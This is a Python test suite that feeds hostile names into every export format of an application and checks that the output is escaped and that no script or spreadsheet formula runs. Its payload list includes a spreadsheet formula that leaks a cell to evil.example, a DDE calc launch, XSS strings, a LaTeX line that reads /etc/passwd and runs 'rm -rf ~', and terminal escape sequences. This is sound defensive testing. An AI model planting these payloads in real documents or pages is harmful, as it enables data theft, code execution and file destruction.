"""Every name is data, escaped for where it goes: one list of hostile names (formulas, markup,
LaTeX commands, control and bidi characters, a stray byte from the file system, a 10,000
character name) put in a result of every kind (as input labels, host and CPU names, merge
labels, failure messages) and saved in every format the kind offers. Each output is checked
by the rule of its format: no formula in a workbook or a CSV, no markup or split row in
Markdown, no control character anywhere, a .tex that compiles, JSON that loads."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from hostile import small_job, small_run
from paper_files import compiles
from publish_factories import made_study
from trend_factories import sweep

from app.cli.terminal import Visible, clear_line, redraw, visible_streams
from app.core.document import terminal
from app.core.kinds import formats
from app.core.publish.merge import MergeSource, merge_results
from app.core.runtime.envelope import NamedFailure
from tests.core.history.history_factories import transfer_run, transfer_study

HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=1+2.txt",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "@SUM(1+1)*cmd",
    "\tstarts with a tab",
    "\rstarts with a return",
    "<img src=x onerror=\"document.body.setAttribute('data-pwned','1')\">",
    "<script>document.title='pwned'</script>",
    "a|b\nc\rd",
    "\\input{/etc/passwd}\\write18{rm -rf ~}",
    "\x1b]0;owned\x07\x1b[2J\x1b[31mred.txt",
    "\u202etxt.exe",
    "bs\x08del\x7fcsi\x9b",
    "data\udcff.bin",
    "x" * 10_000,
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Any control character but the line breaks and tabs a text file is made of; the bidi and
# invisible format controls.
CONTROL = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2066-\u2069]"
)


def _bench():
    jobs = [small_job(label=name, input_bytes=1000 + i) for i, name in enumerate(HOSTILE)]
    run = small_run(*jobs)
    return dataclasses.replace(run, environment={"cpu": HOSTILE[0], "hostname": HOSTILE[11]})


def _study():
    return made_study(files=tuple((name, 1000 + i) for i, name in enumerate(HOSTILE[:9])))


def _transfer():
    return transfer_run(
        input_label=HOSTILE[11],
        failures=(NamedFailure("chacha20-poly1305", HOSTILE[0] + HOSTILE[9]),),
    )


def _transfer_study():
    study = transfer_study()
    cells = tuple(dataclasses.replace(r, input_label=HOSTILE[8]) for r in study.results)
    return dataclasses.replace(study, results=cells)


def _sweep():
    result = sweep()
    return dataclasses.replace(result, failures=(NamedFailure(HOSTILE[1], HOSTILE[11]),))


def _merged():
    studies = [_study(), _study()]
    sources = [
        MergeSource(HOSTILE[0], HOSTILE[11], studies[0]),
        MergeSource(HOSTILE[12], HOSTILE[7], studies[1]),
    ]
    return merge_results(sources)


def _side_by_side():
    from app.core.publish.merged_documents import merge_documents

    transfers = [_transfer(), _transfer()]
    return merge_documents(
        [
            MergeSource(HOSTILE[0], HOSTILE[11], transfers[0]),
            MergeSource(HOSTILE[9], HOSTILE[7], transfers[1]),
        ]
    )


RESULTS = {
    "bench": _bench,
    "study": _study,
    "transfer": _transfer,
    "transfer study": _transfer_study,
    "sweep": _sweep,
    "merged": _merged,
    "side by side": _side_by_side,
}


def _no_control(text: str, where: str) -> None:
    found = CONTROL.search(text)
    assert found is None, f"{where}: control character {found.group()!r}"


def _check_csv(path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    _no_control(text, path.name)
    for row in csv.reader(io.StringIO(text)):
        for value in row:
            if value.startswith(FORMULA_STARTS) and value != "-":  # "-": a missing cell
                float(value.replace(",", ""))  # only a number may start so ("-0.5")


def _check_xlsx(path: Path) -> None:
    from openpyxl import load_workbook

    wb = load_workbook(path)
    try:
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{path.name} {ws.title}!{cell.coordinate}"
                    if isinstance(cell.value, str):
                        _no_control(cell.value, f"{path.name} {ws.title}!{cell.coordinate}")
    finally:
        wb.close()


def _check_markdown(path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    _no_control(text, path.name)
    assert "<img" not in text and "<script" not in text and "\r" not in text
    for block in re.split(r"\n\s*\n", text):
        rows = [line for line in block.splitlines() if line.startswith("|")]
        widths = {len(re.findall(r"(?<!\\)\|", line)) for line in rows}
        assert len(widths) <= 1, f"{path.name}: a row split or widened:\n{block[:400]}"


def _check_asciidoc(path: Path) -> None:
    """No control character; every row of a table has as many cells as its header (a ``|``
    in a name escaped)."""
    text = path.read_text(encoding="utf-8")
    _no_control(text, path.name)
    for block in text.split("|===\n")[1::2]:
        rows = block.splitlines()
        widths = {len(re.findall(r"(?<!\\)\|", row)) for row in rows}
        assert len(widths) == 1, f"{path.name}: a row split or widened:\n{block[:400]}"


def _check_tex(path: Path, tmp_path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    _no_control(text, path.name)
    assert "\\input{" not in text and "\\write18" not in text
    compiles(path, tmp_path, fits=False)  # a name of 200 characters in one word


def _check_markup(path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    _no_control(text, path.name)
    assert "<img" not in text and "<script" not in text


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, Path]]:
    """Every format of every kind, written once: kind -> suffix -> file."""
    out: dict[str, dict[str, Path]] = {}
    for kind, make in RESULTS.items():
        folder = tmp_path_factory.mktemp(kind.replace(" ", "_"))
        result = make()
        out[kind] = {}
        for suffix in formats.kind_of(result).writers:
            out[kind][suffix] = formats.save(result, folder / f"{kind.replace(' ', '_')}{suffix}")
    return out


@pytest.mark.parametrize("kind", RESULTS)
def test_every_writer_of_every_kind_escapes_hostile_names(
    kind: str, outputs: dict[str, dict[str, Path]], tmp_path: Path
) -> None:
    for suffix, path in outputs[kind].items():
        if suffix == ".csv":
            _check_csv(path)
        elif suffix == ".xlsx":
            _check_xlsx(path)
        elif suffix == ".md":
            _check_markdown(path)
        elif suffix == ".tex":
            _check_tex(path, tmp_path)
        elif suffix in (".html", ".svg"):
            _check_markup(path)
        elif suffix == ".adoc":
            _check_asciidoc(path)
        elif suffix == ".json":
            json.loads(path.read_text(encoding="utf-8"))
    printed = terminal.render(formats.document_of(RESULTS[kind]()), width=80)
    _no_control(printed, f"{kind} on the terminal")


def _browser() -> str:
    found = shutil.which("chromium") or shutil.which("chromium-browser")
    if found is None:
        pytest.skip("Chromium is not installed (scripts/setup.sh --dev installs it)")
    return found


# Opens each page in a frame and reads, once all have loaded, whether a script marked it; two
# pages whose scripts do mark them show that the frames are read and that scripts run there.
_FRAMES = """<!doctype html><html><body>{frames}<script>
window.addEventListener("load", () => {{
  const seen = [...document.querySelectorAll("iframe")].map((frame) => {{
    const d = frame.contentDocument;
    if (!d || !d.documentElement) return "unreadable";
    const marked = (d.body && d.body.getAttribute("data-pwned")) || d.title === "pwned";
    return marked ? "pwned" : "clean";
  }});
  document.body.setAttribute("data-seen", seen.join(" "));
}});
</script></body></html>"""


def _hostile(containing: str) -> str:
    return next(name for name in HOSTILE if containing in name)


def test_no_script_runs_when_a_browser_opens_the_pages(
    outputs: dict[str, dict[str, Path]], tmp_path: Path
) -> None:
    """Every HTML page and SVG figure in headless Chromium (one start, each page in a frame):
    the hostile names' scripts (an onerror, a <script>) would mark their document if any ran."""
    browser = _browser()
    pages = [p for kind in outputs.values() for s, p in kind.items() if s in (".html", ".svg")]
    assert len(pages) >= 6
    controls = [tmp_path / "control.html", tmp_path / "control.svg"]
    script, onerror = _hostile("<script>"), _hostile("onerror")
    controls[0].write_text(f"<!doctype html><html><body>{onerror}</body></html>")
    controls[1].write_text(f'<svg xmlns="http://www.w3.org/2000/svg">{script}</svg>')
    frames = "".join(f'<iframe src="{p.as_uri()}"></iframe>' for p in [*pages, *controls])
    (tmp_path / "frames.html").write_text(_FRAMES.format(frames=frames))
    done = subprocess.run(
        [browser, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
         "--allow-file-access-from-files", f"--user-data-dir={tmp_path / 'profile'}",
         "--virtual-time-budget=10000", "--dump-dom", (tmp_path / "frames.html").as_uri()],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-500:]
    found = re.search(r'data-seen="([^"]*)"', done.stdout)
    assert found, done.stdout[-500:]
    seen = found.group(1).split()
    assert seen[-2:] == ["pwned", "pwned"], seen  # the controls: frames read, scripts run
    assert seen[:-2] == ["clean"] * len(pages), list(zip(pages, seen, strict=False))


def test_a_spreadsheet_opens_every_csv_and_workbook_without_a_formula(
    outputs: dict[str, dict[str, Path]], tmp_path: Path
) -> None:
    """LibreOffice converts every CSV and workbook to a workbook of its own: no cell of it is a
    formula (before, it turned every name starting with = + - @ into one)."""
    from openpyxl import load_workbook

    office = shutil.which("soffice") or shutil.which("libreoffice")
    if office is None:
        pytest.skip("LibreOffice is not installed (scripts/setup.sh --dev installs it)")
    sources = [p for kind in outputs.values() for s, p in kind.items() if s in (".csv", ".xlsx")]
    converted = tmp_path / "converted"
    for source in sources:  # one name each: a.csv and a.xlsx would both become a.xlsx
        (tmp_path / "in").mkdir(exist_ok=True)
        shutil.copy(source, tmp_path / "in" / f"{source.stem}_{source.suffix[1:]}{source.suffix}")
    done = subprocess.run(
        [office, "--headless", f"-env:UserInstallation={(tmp_path / 'office').as_uri()}",
         "--convert-to", "xlsx", "--outdir", converted,
         *sorted((tmp_path / "in").iterdir())],
        capture_output=True, text=True, timeout=300,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-500:]
    books = sorted(converted.glob("*.xlsx"))
    assert len(books) == len(sources), done.stdout[-500:]
    for book in books:
        wb = load_workbook(book)
        try:
            formulas = [
                f"{ws.title}!{c.coordinate}: {c.value}"
                for ws in wb.worksheets
                for row in ws.iter_rows()
                for c in row
                if c.data_type == "f" and c.value not in ("=TRUE()", "=FALSE()")
            ]  # LibreOffice writes a true/false cell as =TRUE(): a value, not a name
        finally:
            wb.close()
        assert not formulas, f"{book.name}: {formulas[:3]}"


def test_the_command_lines_streams_show_controls_and_keep_lines(
    capsys: pytest.CaptureFixture[str],
) -> None:
    with visible_streams():
        assert isinstance(sys.stdout, Visible) and isinstance(sys.stderr, Visible)
        print("\n".join(HOSTILE[9:14]))
        print(HOSTILE[6], file=sys.stderr)
        redraw(HOSTILE[11], 30)
        clear_line(30)
    out, err = capsys.readouterr()
    _no_control(out + err.replace("\r", ""), "the terminal")
    assert r"\x1b]0;owned\x07" in out and r"\u202etxt.exe" in out and "a|b\nc" in out
    assert err.startswith(r"\x0dstarts with a return" + "\n\r")  # the progress line's \r only
    assert not isinstance(sys.stdout, Visible)
